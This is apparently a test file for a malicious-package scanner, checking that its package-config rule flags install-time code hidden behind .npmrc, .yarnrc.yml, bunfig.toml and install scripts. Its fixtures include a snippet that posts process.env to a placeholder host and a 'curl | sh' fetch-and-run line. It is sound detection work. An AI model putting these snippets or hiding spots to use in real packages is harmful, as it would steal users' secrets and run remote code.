import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';

const RULE = 'package-config';
const STEAL = "const https = require('https');\nhttps.request({ host: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env));\n";

describe('package-config reports', () => {
  test('.npmrc git= pointing at a shipped script that downloads code is critical and malicious', () => {
    const r = scanFiles({ 'package.json': manifest(), '.npmrc': 'git=./tools/git.sh\n', 'tools/git.sh': '#!/bin/sh\ncurl -s https://dl.invalid/x | sh\nexec git "$@"\n', 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE)).toEqual([finding('critical', ['package-config'], { file: '.npmrc', reach: 'install' })]);
    expect(r.verdict).toBe('malicious');
  });

  test('.npmrc node-options --require loads a shipped file, analyzed as install-time code', () => {
    const r = scanFiles({ 'package.json': manifest(), '.npmrc': 'node-options=--require ./hook.js\n', 'hook.js': STEAL, 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE)).toEqual([finding('high', ['package-config'], { file: '.npmrc' })]);
    expect(r.findings.find((f) => f.rule === 'exfiltration-flow')?.reach).toBe('install');
    expect(r.verdict).toBe('malicious');
  });

  test('.yarnrc.yml yarnPath pointing at a non-release file is high; its code is analyzed', () => {
    const r = scanFiles({ 'package.json': manifest(), '.yarnrc.yml': 'yarnPath: scripts/yarn.cjs\n', 'scripts/yarn.cjs': STEAL, 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE)).toEqual([finding('high', ['package-config'], { file: '.yarnrc.yml' })]);
    expect(r.verdict).toBe('malicious');
  });

  test('bunfig.toml preload of a shipped file', () => {
    const r = scanFiles({ 'package.json': manifest(), 'bunfig.toml': 'preload = ["./setup.ts"]\n', 'setup.ts': STEAL, 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE)).toEqual([finding('high', ['package-config'], { file: 'bunfig.toml' })]);
    expect(r.verdict).toBe('malicious');
  });

  test('an extension-less file run by the postinstall script is parsed as install code', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node setup' } }), setup: STEAL });
    expect(r.findings.find((f) => f.rule === 'exfiltration-flow')).toEqual(expect.objectContaining({ file: 'setup', reach: 'install' }));
    expect(r.verdict).toBe('malicious');
  });

  test('an extension-less ./install with a node shebang run by preinstall is parsed as install code', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { preinstall: './bin/install' } }), 'bin/install': '#!/usr/bin/env node\n' + STEAL });
    expect(r.findings.find((f) => f.rule === 'exfiltration-flow')).toEqual(expect.objectContaining({ file: 'bin/install', reach: 'install' }));
    expect(r.verdict).toBe('malicious');
  });
});

describe('package-config stays quiet', () => {
  test('a vendored yarn release and ordinary settings', () => {
    const r = scanFiles({
      'package.json': manifest(),
      '.yarnrc.yml': 'nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.5.0.cjs\nplugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-workspace-tools.cjs\n',
      '.yarn/releases/yarn-4.5.0.cjs': "module.exports = require('child_process');",
      '.yarn/plugins/@yarnpkg/plugin-workspace-tools.cjs': 'module.exports = {};',
      '.npmrc': 'save-exact=true\nengine-strict=true\nnode-options=--max-old-space-size=4096\nregistry=https://registry.npmjs.org/\n',
      'index.js': 'module.exports = 1;',
    });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('a mirror registry and a system shell are low and clean', () => {
    const r = scanFiles({ 'package.json': manifest(), '.npmrc': 'registry=https://registry.npmmirror.com/\nscript-shell=C:\\\\Program Files\\\\git\\\\bin\\\\bash.exe\n', 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE).map((f) => f.severity)).toEqual(['low', 'low']);
    expect(r.verdict).toBe('clean');
  });

  test('an extension-less bin with a node shebang is analyzed at bin reach', () => {
    const r = scanFiles({ 'package.json': manifest({ bin: { tool: 'bin/tool' } }), 'bin/tool': "#!/usr/bin/env node\nconsole.log(require('os').platform());" });
    expect(r.stats.parsedFiles).toBeGreaterThanOrEqual(1);
    expect(r.verdict).toBe('clean');
  });
});
